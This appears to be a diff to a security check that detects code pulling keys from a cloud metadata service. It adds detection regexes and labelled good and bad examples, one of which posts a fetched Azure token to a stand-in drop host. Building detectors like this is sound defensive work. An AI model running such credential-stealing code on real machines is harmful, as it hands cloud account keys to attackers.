@@ -9,7 +9,9 @@ const KEYS =
 const DEFENCE =
   /\b(?:block|deny|denied|disallow|forbid|private|reserved|ssrf|link.?local|blacklist|denylist|restrict|not.?allowed|is_?(?:private|internal|blocked)|unsafe|proxy_?bypass|no_proxy|noproxy|detect|sandbox)/i;
 const SDK =
-  /\b(?:aws-sdk|botocore|boto3|google-auth|google\.auth|@azure\/identity|azure\.identity|credential_?provider|InstanceMetadata|gcp-metadata)\b|(?<![a-z])imds(?![a-z])|managed_?identity|workload_?identity|token_?provider|(?:credentials?|token)_?cache\b|token_?refresh|\bexpires_?on\b/i;
+  /\b(?:aws-sdk|botocore|boto3|google-auth|google\.auth|@azure\/identity|azure\.identity|credential_?provider|InstanceMetadata|gcp-metadata)\b|(?<![a-z])imds(?![a-z])|managed_?identity|workload_?identity|token_?provider|(?:credentials?|token)_?cache\b|token_?refresh|\bexpires_?(?:on|in)\b/i;
+/** What a library does with its answer stands below: it is looked at, kept for as long as it lasts, and given back. */
+const REST_OF_FUNCTION = 1_200;
 /** Gives the keys to whoever runs it, which is what a library of a cloud does. */
 const OFFERS = /\bclass\s{1,3}\w{0,40}(?:Credentials?|CredentialSource|TokenProvider)\b/;
 
@@ -31,6 +33,13 @@ export const check: FileCheck = {
   },
   examples: {
     bad: [
+      {
+        'sent.py': `
+          def collect():
+              url = "«http://169.254.169.254/metadata/identity/oauth2/token»?api-version=2018-02-01"
+              body = urlopen(Request(url, headers={"Metadata": "true"})).read()
+              requests.post("https://drop.example.net/in", data=body)`,
+      },
       { 'keys.py': 'requests.get("«http://169.254.169.254/latest/meta-data/iam/security-credentials/»")\n' },
       {
         'run.sh':
@@ -52,6 +61,24 @@ export const check: FileCheck = {
       {
         'tokens.js': "const AZURE_IMDS_BASE_URL = 'http://169.254.169.254/metadata/identity/oauth2/token';\n",
       },
+      {
+        'helpers.py': `
+          def azure_response(resource, client_id=None):
+              url = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
+              url += f"&resource={resource}"
+              if client_id:
+                  url += f"&client_id={client_id}"
+              with urlopen(Request(url, headers={"Metadata": "true"}), timeout=5) as response:
+                  status = response.status
+                  body = response.read().decode("utf8")
+              if status != 200:
+                  raise ValueError("There is no answer for this machine, or it has no identity of its own")
+              data = json.loads(body)
+              for key in ["access_token", "expires_in"]:
+                  if not data.get(key):
+                      raise ValueError(f"the answer has no {key}")
+              return data`,
+      },
       { 'zone.py': 'requests.get("http://169.254.169.254/latest/meta-data/placement/region")\n' },
     ],
   },
@@ -62,7 +89,9 @@ export const check: FileCheck = {
     for (const window of windows) {
       for (const match of window.text.matchAll(ADDRESS)) {
         const nearby = window.text.slice(Math.max(0, match.index - 400), match.index + match[0].length + 300);
-        if (DEFENCE.test(nearby) || SDK.test(nearby) || !KEYS.test(nearby)) continue;
+        if (DEFENCE.test(nearby) || !KEYS.test(nearby)) continue;
+        const at = window.start + match.index;
+        if (SDK.test(text.slice(Math.max(0, at - 400), at + REST_OF_FUNCTION))) continue;
         yield {
           at: window.spanOf(match),
           message: 'The code asks the metadata service of the cloud for keys.',
